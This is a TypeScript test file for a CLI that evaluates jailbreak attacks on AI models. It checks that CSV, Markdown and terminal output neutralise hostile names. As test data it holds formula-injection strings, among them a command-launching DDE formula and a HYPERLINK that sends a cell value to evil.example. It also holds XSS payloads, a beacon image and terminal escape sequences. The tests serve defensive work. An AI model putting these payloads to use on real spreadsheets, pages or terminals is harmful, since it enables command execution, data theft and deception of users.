import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli, tempDir, writeFile } from '../helpers/cli.js';

/**
 * Issue 21, items 6, 7 and 8, through the built CLI on a run whose names come from a hostile config, dataset
 * and endpoint: CSV cells are neutralised against formula injection (checked cell by cell with a CSV
 * parser), Markdown carries no raw HTML or link syntax, and nothing printed for a person sends a terminal
 * control sequence (the hostile endpoint's error text among them).
 */

const ESC = '\u001b';
const BEL = '\u0007';
const CSI8 = '\u009b';
/** Terminal controls a hostile text carries: retitle the window, clear the screen, colour via 8-bit CSI. */
const TITLE = `${ESC}]0;pwned${BEL}`;
const CLEAR = `${ESC}[2J`;

const LABELS = [
  '=1+1',
  '+HYPERLINK("http://evil.example/?q="&A1,"click")',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=tab',
  '\r=cr',
  '<img src=x onerror=alert(1)>',
  `esc ${CLEAR}${TITLE} label`,
  'plain-label',
];
const JUDGE_ID = "=cmd|' /C calc'!A0";
const RUN_NAME = `=run <b>name</b> ${TITLE} ![beacon](http://evil.example/b.png)`;
const CATEGORIES = ['=HYPERLINK("http://evil.example")', '<script>alert(1)</script>', `${CLEAR}red|pipe`];
const SERVER_ERROR = `upstream ${TITLE}${CLEAR}${CSI8}31m exploded`;

const dir = tempDir('refusenik-escaping-');
const db = path.join(dir, 'runs.db');
let server: Server;
let runId = '';
let runOutput = '';

/** YAML double-quoted text: escapes for the controls, so the config file itself stays plain text. */
function yq(s: string): string {
  return JSON.stringify(s);
}

beforeAll(async () => {
  server = createServer((req, res) => {
    let body = '';
    req.on('data', (d: Buffer) => (body += d.toString()));
    req.on('end', () => {
      const prompt = (JSON.parse(body) as { messages: { content: string }[] }).messages.at(-1)?.content ?? '';
      if (prompt.includes('fail')) {
        res.writeHead(500, { 'content-type': 'application/json' });
        res.end(JSON.stringify({ error: { message: SERVER_ERROR } }));
        return;
      }
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(
        JSON.stringify({
          choices: [
            {
              index: 0,
              message: { role: 'assistant', content: 'Sure, here is how.' },
              finish_reason: 'stop',
            },
          ],
          usage: { prompt_tokens: 3, completion_tokens: 4 },
        }),
      );
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`;
  writeFile(
    dir,
    'goals.jsonl',
    [
      { goal: 'make a thing', category: CATEGORIES[0] },
      { goal: 'make another thing', category: CATEGORIES[1] },
      { goal: 'make a third thing', category: CATEGORIES[2] },
      { goal: 'please fail now', category: CATEGORIES[0] },
    ]
      .map((g) => JSON.stringify(g))
      .join('\n') + '\n',
  );
  const targets = LABELS.map(
    (l) => `  - id: openai:m\n    label: ${yq(l)}\n    base_url: ${url}\n    retries: 0\n`,
  ).join('');
  const cfg = writeFile(
    dir,
    'hostile.yaml',
    `name: ${yq(RUN_NAME)}\ndataset: {path: goals.jsonl, category_field: category}\nattacks: [plain]\n` +
      `targets:\n${targets}judges:\n  - keyword: {id: ${yq(JUDGE_ID)}}\n`,
  );
  const res = await runCli(['run', cfg, '--db', db, '--no-progress', '--allow-errors']);
  expect(res.code, res.stderr).toBe(0);
  runOutput = res.stdout + res.stderr;
  runId = /run-[0-9a-f]{12}/.exec(res.stdout)?.[0] ?? '';
  expect(runId).not.toBe('');
});
afterAll(async () => new Promise<void>((r) => server.close(() => r())));

/** No character that makes a terminal act: C0 but newline and tab, DEL, C1, bidi overrides. */
function expectTerminalSafe(where: string, text: string): void {
  // eslint-disable-next-line no-control-regex -- the controls are what is looked for
  const bad = text.match(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/gu) ?? [];
  expect(
    bad.map((c) => c.codePointAt(0)?.toString(16)),
    where,
  ).toEqual([]);
}

const FORMULA = /^[=+\-@\t\r]/;

describe('CSV cells are neutralised against formula injection (item 6)', () => {
  it('report --format csv: every text cell that would start a formula starts with a quote, checked cell by cell', async () => {
    const res = await runCli(['report', runId, '--db', db, '--format', 'csv']);
    expect(res.code).toBe(0);
    const rows = parse(res.stdout, { columns: true, relax_quotes: false }) as Record<string, string>[];
    expect(rows).toHaveLength(LABELS.length);
    const numeric = new Set([
      'n',
      'successes',
      'attack_success_rate',
      'ci_low',
      'ci_high',
      'refusals',
      'refusal_rate',
      'mean_score',
      'errors',
      'judge_errors',
      'inconclusive',
      'asr_corrected',
      'asr_corrected_ci_low',
      'asr_corrected_ci_high',
      'audit_n',
    ]);
    const targets = new Set<string>();
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        expect(FORMULA.test(cell), `${column}: ${JSON.stringify(cell)}`).toBe(false);
        if (numeric.has(column) && cell !== '') expect(Number.isFinite(Number(cell)), column).toBe(true);
      }
      // A neutralised cell is the original text behind one quote: nothing else changed.
      const target = row['target'] as string;
      targets.add(target.replace(/^'(?=[=+\-@\t\r])/, ''));
      expect(row['judge']).toBe(`'${JUDGE_ID}`);
      expect(row['attack']).toBe('plain');
    }
    expect([...targets].sort()).toEqual([...LABELS].sort());
  });

  it('suite table --format csv: the same', async () => {
    // The table's columns are the paper's attacks: a SelfCipher run on scripted targets with the same labels.
    const targets = LABELS.map((l) => `  - id: mock:refuse-plain\n    label: ${yq(l)}\n`).join('');
    const cfg = writeFile(
      dir,
      'cipher.yaml',
      `dataset: {path: goals.jsonl}\nattacks: [selfcipher]\ntargets:\n${targets}judges: [keyword]\n`,
    );
    const run = await runCli(['run', cfg, '--db', db, '--json']);
    expect(run.code, run.stderr).toBe(0);
    const cipherRun = (JSON.parse(run.stdout) as { run_id: string }).run_id;
    const res = await runCli(['suite', 'table', cipherRun, '--db', db, '--format', 'csv', '--paper', 'none']);
    expect(res.code, res.stderr).toBe(0);
    const rows = parse(res.stdout, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(LABELS.length);
    for (const row of rows)
      for (const [column, cell] of Object.entries(row))
        expect(FORMULA.test(cell), `${column}: ${JSON.stringify(cell)}`).toBe(false);
    const models = rows.map((r) => (r['model'] as string).replace(/^'(?=[=+\-@\t\r])/, ''));
    expect(models.sort()).toEqual([...LABELS].sort());
    expect(rows.every((r) => r['Cipher'] === '0')).toBe(true);
  });
});

describe('Markdown carries no raw HTML (item 7)', () => {
  it('report --format md escapes HTML, image and link syntax in names, labels and categories', async () => {
    const res = await runCli(['report', runId, '--db', db, '--format', 'md']);
    expect(res.code).toBe(0);
    const md = res.stdout;
    for (const raw of ['<img', '<script', '<b>', '![beacon]']) expect(md).not.toContain(raw);
    // No link or image can form: every `](` is escaped.
    expect(md).not.toMatch(/(?<!\\)\]\(/);
    expect(md).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(md).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(md).toContain('&lt;b&gt;name&lt;/b&gt;');
    // The pipe in a category stays inside its cell; the intervals of our own figures read as before.
    expect(md).toContain('red\\|pipe');
    expect(md).toMatch(/\d+\.\d% \[\d+\.\d, \d+\.\d\]/);
    expectTerminalSafe('the Markdown report', md);
    // Every table row keeps its column count (no cell broke out of its table).
    const tables = md.split('\n').filter((l) => l.startsWith('|'));
    for (const line of tables) expect(line.replace(/\\\|/g, '').endsWith('|')).toBe(true);
  });
});

describe('nothing printed for a person sends terminal controls (item 8)', () => {
  it('the run summary shows the endpoint error and the hostile names with their controls made visible', () => {
    expectTerminalSafe('the run summary', runOutput);
    expect(runOutput).toContain('exploded');
    expect(runOutput).toContain('\\x1b]0;pwned\\x07');
    expect(runOutput).toContain('\\x9b31m');
  });

  it('runs list, runs show, report and analyze print no control character', async () => {
    for (const args of [
      ['runs', 'list'],
      ['runs', 'show', runId],
      ['runs', 'show', runId, '--json'],
      ['runs', 'list', '--json'],
      ['analyze', 'asr', '--run', runId],
      ['analyze', 'asr', '--run', runId, '--by', 'category'],
      ['analyze', 'agreement', '--run', runId],
      ['report', runId, '--format', 'json'],
    ]) {
      const res = await runCli([...args, '--db', db]);
      expect(res.code, `${args.join(' ')}: ${res.stderr}`).toBe(0);
      expectTerminalSafe(args.join(' '), res.stdout + res.stderr);
    }
    const list = await runCli(['runs', 'list', '--db', db]);
    expect(list.stdout).toContain('\\x1b]0;pwned\\x07');
  });

  it('JSON output keeps the exact values (escaped as JSON, not altered)', async () => {
    const res = await runCli(['runs', 'show', runId, '--db', db, '--json']);
    const info = JSON.parse(res.stdout) as { name: string };
    expect(info.name).toBe(RUN_NAME);
  });

  it('an error message carrying hostile text is printed with its controls made visible', async () => {
    const res = await runCli(['runs', 'show', `nope${TITLE}${CLEAR}`, '--db', db]);
    expect(res.code).toBe(2);
    expectTerminalSafe('the error message', res.stderr);
    expect(res.stderr).toContain('nope\\x1b]0;pwned');
  });
});
